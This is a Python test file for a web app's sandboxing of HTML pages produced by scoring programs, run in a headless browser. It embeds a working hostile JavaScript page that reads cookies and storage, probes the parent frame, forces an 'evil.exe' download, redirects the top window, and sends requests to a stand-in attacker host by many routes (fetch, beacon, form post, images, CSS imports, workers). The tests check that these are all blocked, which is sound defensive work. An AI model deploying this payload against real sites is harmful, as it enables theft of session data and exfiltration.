"""H01, H02, H03: what pages that scoring programs write get at in a real browser, and what they send; with twins."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

import pytest
from site_lab import Clock, close_site, make_site

from codabench.site import links
from codabench.site.site import Site
from codabench.web import serve, transfer
from codabench.web.app import create_app
from codabench.web.config import ServerSettings

HOSTILE = """<!doctype html><meta charset="utf-8"><title>In detail</title><body><script>
const got = document.body.dataset.got = [], evil = "EVIL", take = (name, what) => {
  try { const found = what(); if (found) got.push(name); } catch (error) {}
  document.body.dataset.got = got.join(" ");
};
take("origin", () => origin !== "null");
take("cookie", () => document.cookie.includes("mark"));
take("local", () => localStorage.getItem("mark"));
take("session", () => { sessionStorage.setItem("x", "y"); return true; });
take("database", () => indexedDB.open("x"));
take("parent", () => parent !== self && parent.document.body.innerHTML.length);
take("beacon", () => navigator.sendBeacon(evil + "/beacon", "x") && false);
for (const [tag, name] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["object", "data"], ["video", "src"],
                           ["embed", "src"], ["link", "href"]]) {
  const made = document.createElement(tag);
  if (tag === "link") made.rel = "stylesheet";
  made[name] = evil + "/" + tag;
  document.body.append(made);
}
const style = document.createElement("style");
style.textContent = `@import "${evil}/import"; body { background: url(${evil}/background) }
  @font-face { font-family: x; src: url(${evil}/font) } body { font-family: x }`;
document.body.append(style);
const tell = (name) => { got.push(name); document.body.dataset.got = got.join(" "); };
fetch("/api/health/").then((answer) => answer.json()).then((found) => found.version && tell("here"), () => {});
fetch(evil + "/fetch", { mode: "no-cors" }).catch(() => {});
const form = document.createElement("form");
form.action = evil + "/form"; form.target = "elsewhere"; form.method = "post"; document.body.append(form);
const inner = document.createElement("iframe"); inner.name = "elsewhere"; document.body.append(inner);
form.submit();
take("socket", () => { new EventSource(evil + "/events"); });
take("popup", () => window.open(evil + "/popup"));
take("worker", () => { new Worker(URL.createObjectURL(new Blob([`fetch("${evil}/worker", { mode: "no-cors" })`]))); });
const save = document.createElement("a");
save.href = "data:application/octet-stream,x"; save.download = "evil.exe"; document.body.append(save); save.click();
const leave = () => { try { top.location = evil + "/top"; } catch (error) {} };
</script>"""


class Sink(ThreadingHTTPServer):
    """A server of somebody else, which remembers what it was asked for."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Asked)
        self.asked: set[str] = set()
        self.url = f"http://localhost:{self.server_address[1]}"


class _Asked(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.asked.add(self.path.strip("/"))  # type: ignore[attr-defined]
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815 - its name

    def log_message(self, *_args: Any) -> None:
        pass


class Stage(NamedTuple):
    site: Site
    sink: Sink
    browser: Any


@pytest.fixture(scope="module")
def browser(chromium_program: str) -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        options = ["--no-sandbox", "--disable-gpu"]  # it may run as root, and opens nothing but our own pages
        made = playwright.chromium.launch(executable_path=chromium_program, headless=True, args=options)
        yield made
        made.close()


@pytest.fixture
def stage(browser: Any) -> Iterator[Stage]:
    """A site that is really served, and a server that waits for what is sent there."""
    sink = Sink()
    threading.Thread(target=sink.serve_forever, daemon=True).start()
    with serve.listen(ServerSettings(port=0)) as listening:
        site = make_site(Clock(), url=f"http://127.0.0.1:{listening.getsockname()[1]}")
        server = serve._Server(serve._config(create_app(site), ServerSettings()))
        thread = threading.Thread(target=server.run, args=([listening],))
        thread.start()
        while not server.started:
            time.sleep(0.01)
        yield Stage(site, sink, browser)
        server.should_exit = True
        thread.join(20)
    close_site(site)
    sink.shutdown()
    sink.server_close()


class Taken(NamedTuple):
    got: set[str]
    sent: set[str]
    left: set[str]


def taken(stage: Stage, *, framed: bool) -> Taken:
    """What such a page gets at, what it sends away, and how it leaves its place.

    In a frame, it has none of the attributes that our own pages give to frames: what is sent with it has to be enough.
    """
    blob = stage.site.workspace.storage.put(HOSTILE.replace("EVIL", stage.sink.url).encode())
    url = stage.site.links.url("GET", links.file(blob, "detailed_results.html"))
    context = stage.browser.new_context(base_url=stage.site.settings.url)
    context.add_cookies([{"name": "mark", "value": "x", "url": stage.site.settings.url}])
    page, left = context.new_page(), set[str]()
    page.on("popup", lambda _page: left.add("popup"))
    page.on("download", lambda _download: left.add("download"))
    page.goto("/api/health/")
    page.evaluate("localStorage.setItem('mark', 'x')")
    if framed:
        page.goto("/")
        page.evaluate(
            "url => { const f = document.createElement('iframe'); f.src = url; document.body.append(f); }", url
        )
        page.wait_for_function("document.querySelector('iframe') !== null")
        page.wait_for_timeout(400)
        frame = next(each for each in page.frames if "/files/" in each.url)
    else:
        page.goto(url)
        frame = page.main_frame
    frame.wait_for_selector("body[data-got]", state="attached")
    page.wait_for_timeout(500)
    got = set((frame.get_attribute("body", "data-got") or "").split())
    frame.evaluate("leave()")
    page.wait_for_timeout(300)
    if page.url.startswith(stage.sink.url):
        left.add("navigated")
    context.close()
    return Taken(got, stage.sink.asked - {"favicon.ico"}, left)


@pytest.mark.row("H01")
def test_a_page_of_a_scoring_program_gets_at_nothing_from_its_frame(stage: Stage) -> None:
    assert taken(stage, framed=True) == (set(), set(), set())


@pytest.mark.row("H02", "H03")
def test_nor_where_it_is_opened_by_itself(stage: Stage) -> None:
    found = taken(stage, framed=False)
    # A page that stands alone may be left for another one, as by any link; it takes nothing with it.
    assert (found.got, found.sent - {"top"}, found.left - {"navigated"}) == (set(), set(), set())


@pytest.mark.twin("H01", "H02", "H03")
@pytest.mark.parametrize("framed", [True, False])
def test_without_its_sandbox_it_gets_at_everything(stage: Stage, monkeypatch: pytest.MonkeyPatch, framed: bool) -> None:
    monkeypatch.setattr(transfer, "SANDBOX", "default-src * 'unsafe-inline' data: blob:")
    found = taken(stage, framed=framed)
    assert {"origin", "cookie", "local", "here"} <= found.got
    assert {"img", "script", "fetch", "form", "beacon", "background"} <= found.sent
    assert {"popup", "download"} <= found.left
    assert framed <= ("parent" in found.got)
    assert "navigated" in found.left
